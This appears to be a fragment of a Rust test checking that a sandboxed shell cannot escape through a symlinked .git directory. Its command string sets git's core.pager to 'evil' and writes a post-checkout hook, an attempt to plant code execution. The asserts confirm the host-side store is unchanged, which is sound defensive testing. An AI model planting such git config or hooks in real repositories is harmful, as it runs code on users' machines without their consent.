        .profile("extends = [\"base\", \"git\"]\n")
        .file("{ws}/notes", "notes\n");
    host(&b, "git init -q; git add -A; git commit -qm one").ok();
    host(
        &b,
        "mv .git store; ln -s store .git; echo store > .git/info/exclude",
    )
    .ok();
    let ran = b.sh(&format!(
        "{COMMITTER} echo two >> notes; git commit -qam two; git config core.pager evil; \
         echo evil > .git/hooks/post-checkout; echo told"
    ));
    assert_eq!(ran.text(), "told", "{ran:?}");
    assert_eq!(
        host(&b, "git log --format=%s").text(),
        "two\none",
        "{ran:?}"
    );
    assert_eq!(host(&b, "git status --short").text(), "", "{ran:?}");
    assert!(
        !fs::read_to_string(b.ws().join("store/config"))
            .unwrap()
            .contains("evil"),
        "{ran:?}"
    );
    assert!(
        !b.ws().join("store/hooks/post-checkout").exists(),
        "{ran:?}"
    );
}
